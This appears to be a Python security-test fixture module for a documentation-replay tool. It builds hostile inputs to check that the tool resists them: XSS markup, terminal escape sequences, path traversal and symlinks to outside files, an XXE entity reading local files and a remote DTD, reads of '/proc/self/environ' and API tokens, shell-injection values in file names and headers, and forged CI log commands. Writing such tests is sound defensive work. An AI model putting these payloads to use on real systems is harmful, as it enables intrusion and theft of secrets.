"""Ways to take a token, to write or to mark up by what a run keeps, follows, merges or exports.

See `tests.safety.attacks`. `IMAGE` is markup that no report may have, and `ESCAPE` a sequence that
no terminal may get.
"""

import json
from collections.abc import Mapping

from tests.safety.conftest import page

IMAGE = "<img src=x onerror=alert(1)>"
ESCAPE = "\x1b]0;title\x07\x1b[2J"
_ESCAPED = "\\u001b]0;title\\u0007\\u001b[2J"
_PAGE = "docs_source/en-us/evil.md"
_OUT = "../../../outside/secret.md"
_REQUEST = page("GET /x")
_TITLE = f"# A {IMAGE} {ESCAPE}\n\n{_REQUEST}"
_HTML = "--report html=out.html --report markdown=out.md --report junit=out.xml"
_LINKED = page(
    "GET /x",
    "HTTP/1.1 202 Accepted\nLocation: @TRAP@/x\nOperation-Location: @TRAP@/x\n"
    "Link: <@TRAP@/x>; rel=next\nContent-Type: application/json\n\n"
    '{ "@odata.nextLink": "@TRAP@/x", "next_cursor": "a" }',
)
_FOLLOWING = 'poll = "always"\nfollow-pages = ["**"]\ncaptures = "infer"\n'


def _run(message: str) -> str:
    """Return a report of a run, whose texts are those of an attacker."""
    finding = {
        "code": "DOC120", "name": "a", "severity": "error", "message": message, "path": message,
        "line": 1, "column": 1, "url": "javascript:alert(1)", "case": message,
    }  # fmt: skip
    run = {"schema": 1, "version": 1, "findings": [finding], "verdicts": [], "cases": []}
    return json.dumps(run)


def _cassette(target: str) -> str:
    message = {"method": "GET", "target": target, "url": target, "headers": []}
    answer = {
        "status": 200,
        "reason": ESCAPE,
        "headers": [],
        "body": {"_file": _OUT, "text": IMAGE},
    }
    entry = {"case": "good", "request": message, "response": answer, "recorded": "2026-01-01"}
    return json.dumps(
        {"version": 1, "page": _OUT, "recordings": [entry], "log": {"entries": [entry]}}
    )


def _po(comment: str) -> str:
    return (
        'msgid ""\nmsgstr "Content-Type: text/plain; charset=UTF-8\\n"\n\n'
        f'{comment}\nmsgid "Get a photo"\nmsgstr "{IMAGE}{_ESCAPED}"\n'
    )


_XLIFF = (
    '<?xml version="1.0"?><!DOCTYPE xliff [<!ENTITY a SYSTEM "file://@OUTSIDE@/secret.md">'
    '<!ENTITY % b SYSTEM "@TRAP@/b.dtd">%b;]><xliff version="1.2"><file original="'
    f'{_OUT}" source-language="en" target-language="de"><header><skl>'
    '<external-file href="@TRAP@/x"/>'
    "</skl></header><body><trans-unit id='1'><source>&a;</source><target>&a;</target><note>&a;"
    "</note></trans-unit></body></file></xliff>"
)
Row = tuple[Mapping[str, str], Mapping[str, str], tuple[str, ...]]
FEATURES: Mapping[str, Row] = {
    "operation: monitors": ({_PAGE: _LINKED}, {}, ("test --poll always",)),
    "pages: next links": ({_PAGE: _LINKED}, {}, ("test --follow-pages **", "record")),
    "configuration: what is followed": (
        {_PAGE: _LINKED, "docreplay.toml": f'{_FOLLOWING}allow-hosts = ["@HOST@"]\n'},
        {}, ("test",),
    ),
    "captures: a URL of a response": (
        {_PAGE: _LINKED + page("GET {+location}", name="b") + page("GET {location}", name="c")},
        {}, ("test --captures infer",),
    ),
    "story: monitors": (
        {"stories/evil.toml": '[[story]]\nid = "evil"\n\n[[story.steps]]\nid = "a"\n'
         'request = "GET /x"\npoll = true\ncapture = { u = "Operation-Location:" }\n\n'
         '[[story.steps]]\nid = "b"\nrequest = "GET {+u}"\npoll = true\n'},
        {}, ("test",),
    ),
    "account: files": (
        {_PAGE: _REQUEST, "docreplay.toml":
         '[accounts.a]\ntoken-url = "@TRAP@/token"\nclient-id = "a"\nclient-secret = "b"\n'
         'refresh-token = "$env:API_TOKEN"\nrefresh-token-file = "../outside/new"\n'
         '[accounts.b]\ntoken-url = "@TRAP@/token"\nclient-id = "$file:/proc/self/environ"\n'},
        {}, ("test",),
    ),
    "hooks: without consent": (
        {"conftest.py": "@EVIL@\ndef docreplay_session(session):\n    session.trust_env = True\n",
         "docs_source/conftest.py": "@EVIL@", "stories/conftest.py": "@EVIL@"},
        {}, ("test", "record", "regress"),
    ),
    "hooks: of a changed file": (
        {"docreplay.toml": "conftest = true\n", "conftest.py": "@EVIL@"},
        {}, ("record", "test --captures infer", "review"),
    ),
    "report: forged": (
        {"evil.json": _run(f"{IMAGE}{ESCAPE} ::error::a ##vso[task.setvariable]")},
        {}, (f"report evil.json {_HTML}", "report evil.json"),
    ),
    "report: linked": ({}, {"evil.json": "@OUTSIDE@/secret.md"}, ("report evil.json",)),
    "report: linked history": (
        {_PAGE: _TITLE}, {"runs": "@OUTSIDE@"}, (f"check --history runs {_HTML}",)
    ),
    "report: forged history": (
        {_PAGE: _TITLE, "runs/a.json": _run(IMAGE + ESCAPE)}, {}, (f"check --history runs {_HTML}",)
    ),
    "baseline: linked": (
        {_PAGE: "[a](lost.md)\n"}, {"b.jsonl": "@OUTSIDE@/secret.md"},
        ("check --baseline b.jsonl --baseline-update", "check --baseline b.jsonl"),
    ),
    "baseline: forged": (
        {_PAGE: "[a](lost.md)\n", "b.jsonl": json.dumps(
            {"code": "DOC120", "path": _OUT, "fingerprint": ESCAPE, "message": IMAGE}) + "\n"},
        {}, (f"check --baseline b.jsonl {_HTML}",),
    ),
    "snapshot: linked": (
        {}, {"api-snapshot.json": "@OUTSIDE@/secret.md"}, ("record", "regress")
    ),
    "snapshot: forged": (
        {"api-snapshot.json": json.dumps({"version": 1, "base-url": "@TRAP@", "requests": [
            {"case": "en-us/good#good", "request": "GET @TRAP@/x", "statuses": {ESCAPE: IMAGE}}]})},
        {}, (f"regress {_HTML}", "review --snapshot api-snapshot.json"),
    ),
    "cassette: forged": (
        {"cassettes/docs_source/en-us/good.md.json": _cassette("@TRAP@/x")},
        {}, ("test --record-mode none", "test --record-mode once", "export har --output out"),
    ),
    "cassette: linked folder": (
        {"cassettes/a.md": "x"}, {"cassettes/docs_source": "@OUTSIDE@"},
        ("test --record-mode all", "test --record-mode rewrite"),
    ),
    "cassette: linked file": (
        {"cassettes/docs_source/a.md": "x"},
        {"cassettes/docs_source/en-us": "@OUTSIDE@"}, ("test --record-mode all",),
    ),
    "export: linked folder": (
        {_PAGE: _TITLE}, {"out": "@OUTSIDE@"},
        ("export openapi --output out", "export arazzo --output out", "export pytest --output out"),
    ),
    "export: texts": (
        {_PAGE: page("GET /x/{a}?b=`touch @MARK@`\nX: $(touch @MARK@)", name="'; touch @MARK@; '")},
        {}, ("export openapi --output out", "export arazzo --output out",
             "export pytest --output tests.out"),
    ),
    "annotate: linked page": (
        {"docs_source/en-us/a.rst": "A\n=\n\n.. code-block:: http\n\n    GET /x HTTP/1.1\n"},
        {"docs_source/en-us/evil.rst": "@OUTSIDE@/secret.md",
         "docs_source/en-us/evil.md": "@OUTSIDE@/secret.md"},
        ("annotate",),
    ),
    "annotate: files of reStructuredText": (
        {"docs_source/en-us/evil.rst": f"A\n=\n\n.. include:: {_OUT}\n\n"
         f".. literalinclude:: {_OUT}\n\n.. code-block:: http\n\n    GET /x HTTP/1.1\n\n"
         ".. code-block:: http\n\n    HTTP/1.1 200 OK\n"},
        {}, ("annotate --dry-run", "annotate"),
    ),
    "catalogue: PO": (
        {"docs_source/de-de/evil.po": _po(f"#: {_OUT}:1\n#. {IMAGE}\n#| msgid {ESCAPE}"),
         "docs_source/de-de/good.md.po": _po(f"#: {_OUT}:1"),
         "locale/de/LC_MESSAGES/evil.po": _po("#: /proc/self/environ:1")},
        {}, ("drift", f"drift {_HTML}", "drift --fix=unsafe --dry-run"),
    ),
    "catalogue: XLIFF": (
        {"docs_source/de-de/evil.xlf": _XLIFF, "docs_source/de-de/good.md.xlf": _XLIFF,
         "docs_source/de-de/evil.xliff": _XLIFF},
        {}, ("drift", "drift --fix=unsafe"),
    ),
    "workbench: linked output": (
        {_PAGE: _TITLE}, {"out.html": "@OUTSIDE@/new"}, ("workbench --output out.html",)
    ),
    "workbench: markup": (
        {"docs_source/en-us/good.md": f"{_TITLE}\n\n</script>{IMAGE}\n",
         "docs_source/de-de/good.md": f"# B </script>{IMAGE}\n\n{_REQUEST}<!--<script>{IMAGE}\n"},
        {}, ("workbench --output out.html",),
    ),
    "workbench: linked page": (
        {"docs_source/en-us/evil.md": _REQUEST},
        {"docs_source/de-de/evil.md": "@OUTSIDE@/secret.md"},
        ("workbench --output out.html", "drift --fix=unsafe", "drift --sync", "drift --stamp"),
    ),
    "failures: forged": (
        {".docreplay/last-failed.json": json.dumps(["--rootdir=..", "-p", "evil", _OUT, ESCAPE]),
         "evil.py": "@EVIL@"},
        {}, ("test --last-failed",),
    ),
    "diff: markup": (
        {_PAGE: _TITLE, "docs_source/en-us/good.md": f"# {IMAGE} {ESCAPE}\n"},
        {}, (f"diff HEAD.. {_HTML}", "diff HEAD.. --changelog markdown"),
    ),
}  # fmt: skip
"""Files, links and commands by name."""
